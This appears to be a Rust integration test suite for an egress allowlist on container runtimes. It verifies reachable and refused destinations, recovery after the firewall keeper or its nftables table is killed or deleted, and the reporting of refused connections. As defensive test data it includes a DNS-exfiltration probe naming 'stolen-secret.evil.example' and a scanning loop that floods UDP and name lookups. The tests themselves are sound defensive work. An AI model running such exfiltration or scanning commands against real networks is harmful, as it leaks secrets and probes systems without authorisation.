//! What an instance with a list of destinations reaches, on an internet of the test's own. Requires root.

#![allow(clippy::unwrap_used, reason = "a failed expectation is a failed test")]

#[path = "support/internet.rs"]
mod internet;
#[path = "support/listed.rs"]
mod listed;

use std::time::Duration;

use contracts::egress::report::Refused;
use contracts::{ErrorCode, RuntimeId};
use internet::{PORTS, RESOLVER, said, sh};
use listed::{Here, TURN, gateway, keeper, list, provider, table, tables};
use provider_api::conformance::{Stack, eventually, run};
use provider_api::{RuntimeRef, RuntimeSpec};
use provider_docker::conformance::{IMAGE, World, base_image};

#[tokio::test(flavor = "multi_thread")]
async fn what_a_list_does_not_name_is_not_reached() {
    let world = World::new().await;
    let here = Here::new(&world).await;
    run(world.fixture(), |fixture| async move {
        let [port, other] = PORTS;
        let names = format!(
            "one.example,*.two.example,alias.example,many.example,inside.example,metadata.example,elsewhere.example:{port},\
             203.0.113.17:{port}"
        );
        let listed = here.up(&fixture, list(&names)).await;
        let second = here.up(&fixture, list("two.example")).await;
        let nothing = here.up(&fixture, list("none")).await;
        let open = here.up(&fixture, None).await;
        let (own, others) = (gateway(&listed), gateway(&nothing));
        let (listed, second, nothing, open) =
            (listed.runtime(), second.runtime(), nothing.runtime(), open.runtime());

        // Without a list, and without rules that know one: that it is a list what closes.
        for address in ["203.0.113.11", "203.0.113.12", "203.0.113.17", RESOLVER] {
            assert!(here.reaches(&open, address, port).await, "{address} without a list");
        }

        // Names, each of their addresses, and names that are another's.
        assert!(here.reaches(&listed, "one.example", port).await);
        assert!(here.reaches(&listed, "one.example", other).await, "every port of it");
        assert!(here.reaches(&listed, "ONE.example.", port).await);
        assert!(here.reaches(&listed, "alias.example", port).await);
        assert!(here.reaches(&listed, "many.example", port).await);
        for address in ["203.0.113.11", "203.0.113.15", "203.0.113.16"] {
            assert!(here.reaches(&listed, address, port).await, "{address} was answered");
        }
        // Ports.
        assert!(here.reaches(&listed, "elsewhere.example", port).await);
        assert!(here.is_refused(&listed, "elsewhere.example", other).await);
        assert!(here.reaches(&listed, "203.0.113.17", port).await);
        assert!(here.is_refused(&listed, "203.0.113.17", other).await);
        // A wildcard is not its apex, and a name is not the names below it.
        assert!(here.is_refused(&listed, "203.0.113.12", port).await, "nobody has asked for it");
        assert!(here.reaches(&listed, "www.two.example", port).await);
        assert!(here.is_refused(&listed, "two.example", port).await);
        assert!(here.is_refused(&listed, "www.one.example", port).await);
        // What is private stays closed, whatever a name leads to.
        assert!(here.is_refused(&listed, "inside.example", port).await);
        assert!(here.is_refused(&listed, "metadata.example", port).await);
        assert!(here.is_refused(&listed, "10.252.8.2", port).await);
        // Other resolvers, whether they are the host's or not.
        assert!(here.is_refused(&listed, RESOLVER, 53).await);
        assert!(here.is_refused(&listed, RESOLVER, port).await);
        for resolver in [own, others] {
            assert!(here.is_refused(&nothing, &resolver, 10_053).await, "{resolver}");
        }

        // Another list is another's.
        assert!(here.reaches(&second, "two.example", port).await);
        assert!(here.is_refused(&second, "one.example", port).await);
        assert!(here.is_refused(&second, "203.0.113.11", port).await);
        assert!(here.is_refused(&nothing, "one.example", port).await);
        assert!(here.is_refused(&nothing, "203.0.113.11", port).await);

        // No question is a way out.
        let ask = "getent ahosts stolen-secret.evil.example; getent ahosts stolen-secret.one.example; \
                   getent ahosts one.example";
        here.sh(&listed, ask).await;
        here.sh(&nothing, "getent ahosts stolen-secret.one.example").await;
        let asked = here.internet.asked();
        assert!(asked.contains("one.example") && !asked.contains("stolen-secret"), "{asked}");

        // The instance answers whoever calls it, with a list as without.
        let endpoint = here.provider.lifecycle().endpoint(&listed).await.unwrap();
        assert!(endpoint.port > 0);
        let found = here.provider.examine(&fixture.installation).await;
        assert!(found[0].ok && found[0].detail.contains("3 lists of destinations are in force"), "{found:?}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_list_holds_when_its_keeper_or_its_rules_are_removed_and_goes_with_its_runtime() {
    let world = World::new().await;
    let here = Here::new(&world).await;
    run(world.fixture(), |fixture| async move {
        let port = PORTS[0];
        let stack = here.up(&fixture, list("one.example")).await;
        let other = here.up(&fixture, None).await;
        let runtime = stack.runtime();
        let (keeper, bridge) = (keeper(&fixture), table(&stack));
        let kill = |what: &str| {
            said(&format!("pid=$(docker inspect -f '{{{{.State.Pid}}}}' {keeper}); kill -9 $({what})"))
        };
        let serves = || said(&format!("pgrep -f '[/]run/{bridge}.conf'"));
        assert!(here.reaches(&runtime, "one.example", port).await);

        // The resolver, the keeper, its table: each is back by itself, and nothing is open meanwhile.
        let before = serves();
        kill(&format!("pgrep -f '[/]run/{bridge}.conf'"));
        eventually("it is answered", async || !serves().is_empty() && serves() != before).await;
        eventually("by name", async || here.reaches(&runtime, "one.example", port).await).await;

        let started = || said(&format!("docker inspect -f '{{{{.State.StartedAt}}}}' {keeper}"));
        let before = started();
        kill("echo $pid");
        assert!(here.is_refused(&runtime, "203.0.113.13", port).await);
        assert!(here.reaches(&runtime, "203.0.113.11", port).await, "what was answered stays open");
        eventually("the keeper is back", async || started() != before && !serves().is_empty()).await;
        assert!(here.reaches(&runtime, "203.0.113.11", port).await, "it has kept what was answered");
        eventually("names are back", async || here.reaches(&runtime, "one.example", port).await).await;
        assert!(here.is_refused(&runtime, "203.0.113.13", port).await);

        let full = tables(&fixture)
            .lines()
            .find_map(|line| line.split(' ').find(|word| word.ends_with(&bridge)).map(str::to_owned));
        let full = full.unwrap();
        assert!(sh(&format!("docker exec {keeper} nft delete table inet {full}")));
        eventually("its table is back", async || tables(&fixture).contains(&full)).await;
        eventually("closed again", async || here.is_refused(&runtime, "203.0.113.13", port).await).await;
        assert!(here.reaches(&runtime, "one.example", port).await);

        // Who has lost the list opens nothing.
        assert!(sh(&format!("docker exec {keeper} sh -c 'rm /lists/*; nft delete table inet {full}'")));
        sh(&format!("docker restart {keeper}"));
        eventually("the keeper is there again", async || tables(&fixture).contains("pilot_")).await;
        for address in ["203.0.113.11", "203.0.113.13"] {
            eventually("it is closed", async || here.is_refused(&runtime, address, port).await).await;
        }
        let lifecycle = here.provider.lifecycle();
        lifecycle.stop(&runtime, Duration::ZERO).await.unwrap();
        lifecycle.start(&runtime).await.unwrap();
        assert!(here.reaches(&runtime, "one.example", port).await, "a start brings it back");

        stack.down().await;
        eventually("all of it is gone", async || !tables(&fixture).contains(&full) && serves().is_empty())
            .await;
        other.down().await;
        let left = said(&format!("docker volume ls -q -f label=pilot.egress={}", fixture.installation));
        assert_eq!(left, "", "the volume of lists goes with the last runtime");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_refused_is_told_and_a_list_with_it_opens_it() {
    let world = World::new().await;
    let here = Here::new(&world).await;
    run(world.fixture(), |fixture| async move {
        let [port, other] = PORTS;
        let own = list(&format!("one.example,inside.example,elsewhere.example:{port}"));
        let mut stack = here.up(&fixture, own.clone()).await;
        let (runtime, open) = (stack.runtime(), here.up(&fixture, None).await.runtime());
        let told = async |runtime: &RuntimeRef| {
            let told = here.provider.refuses().unwrap().refusals(runtime).await.unwrap();
            assert_eq!(told.not_in_force, None);
            told
        };
        // As `DESTINATION PROTOCOL`, behind `!` where no list opens it.
        let shown = async |runtime: &RuntimeRef| {
            let one = |one: Refused| {
                let port = one.port.map(|port| format!(":{port}")).unwrap_or_default();
                let closed = if one.closed_for_all { "!" } else { "" };
                format!("{closed}{}{port} {}", one.destination, one.protocol.as_deref().unwrap_or("name"))
            };
            told(runtime).await.refused.into_iter().map(one).collect::<Vec<_>>()
        };
        assert_eq!(shown(&runtime).await, [""; 0]);
        assert!(here.reaches(&runtime, "one.example", port).await);
        assert!(here.is_refused(&runtime, "far.example", port).await);
        assert!(here.is_refused(&runtime, "203.0.113.12", port).await);
        assert!(here.is_refused(&runtime, "elsewhere.example", other).await);
        assert!(here.is_refused(&runtime, "inside.example", port).await);
        assert!(here.is_refused(&open, "10.252.8.2", other).await);
        here.sh(&runtime, "echo > /dev/udp/203.0.113.12/9").await;
        let mut seen = shown(&runtime).await;
        seen.sort_unstable();
        let mut expected = vec![
            "203.0.113.12:9 udp".to_owned(),
            format!("203.0.113.12:{port} tcp"),
            format!("203.0.113.13:{other} tcp"),
            format!("!10.252.8.2:{port} tcp"),
            "far.example name".to_owned(),
        ];
        expected.sort_unstable();
        assert_eq!(seen, expected);
        assert_eq!(shown(&open).await, [format!("!10.252.8.2:{other} tcp")], "of the other one, without a list");

        // What is proposed opens it, and then nothing is left to be told.
        let wider = own.unwrap().with_refused(&told(&runtime).await.refused);
        let spec = RuntimeSpec { egress: wider, generation: 2, ..stack.spec.clone() };
        stack.change_to(spec).await;
        assert!(here.reaches(&runtime, "far.example", port).await);
        assert!(!shown(&runtime).await.contains(&"far.example name".to_owned()));

        // Who asks for everything fills nothing, and is refused still.
        let scan = "for n in $(seq 1 200); do for net in 198.51.100 192.0.2; do echo > /dev/udp/$net.$n/53; done; done; \
                    for n in $(seq 1 150); do getent hosts n$n.example; done";
        here.sh(&runtime, &format!("({scan}) 2> /dev/null; true")).await;
        let told = told(&runtime).await;
        // Beside what is private, of which there was one.
        assert!(told.more && told.refused.len() <= 256 + 100 + 1, "{}", told.refused.len());
        assert!(here.is_refused(&runtime, "203.0.113.16", port).await);
        assert!(here.reaches(&runtime, "one.example", port).await);
        let log = said(&format!("docker logs {} 2>&1", keeper(&fixture)));
        assert!(!log.contains("changed or removed"), "what is remembered is no change of the rules: {log}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn where_a_list_cannot_be_in_force_nothing_starts() {
    let _turn = TURN.lock().await;
    let world = World::new().await;
    // It has neither `nft` nor `dnsmasq`.
    let bare = base_image(&world.docker).await;
    let open =
        provider(&world, &[("PILOT_DOCKER_EGRESS", "allow-open"), ("PILOT_DOCKER_EGRESS_IMAGE", &bare)]);
    let without = format!("pilot-egress-test-bare:{}", std::process::id());
    let build = format!(
        "printf 'FROM {IMAGE}\\nUSER 0\\nRUN rm /usr/sbin/dnsmasq\\n' | DOCKER_BUILDKIT=0 docker build -q -t {without} -"
    );
    assert!(sh(&build));
    let nameless = provider(&world, &[("PILOT_DOCKER_EGRESS_IMAGE", &without)]);
    run(world.fixture(), |fixture| async move {
        for (provider, why) in [(&open, "no rules can be put in place"), (&nameless, "dnsmasq")] {
            let mut stack = fixture.stack_of(provider, &fixture.installation, RuntimeId::random());
            stack.spec.egress = list("one.example");
            let mut stack = Stack::new(provider.clone(), stack.spec.clone());
            let error = stack.try_up().await.unwrap_err();
            assert_eq!(error.code, ErrorCode::EgressOpen, "{error}");
            assert!(error.message.contains(why), "{error}");
            assert!(!fixture.backdoor.runs(&stack.runtime()).await);
        }
    })
    .await;
    sh(&format!("docker rmi {without}"));
}
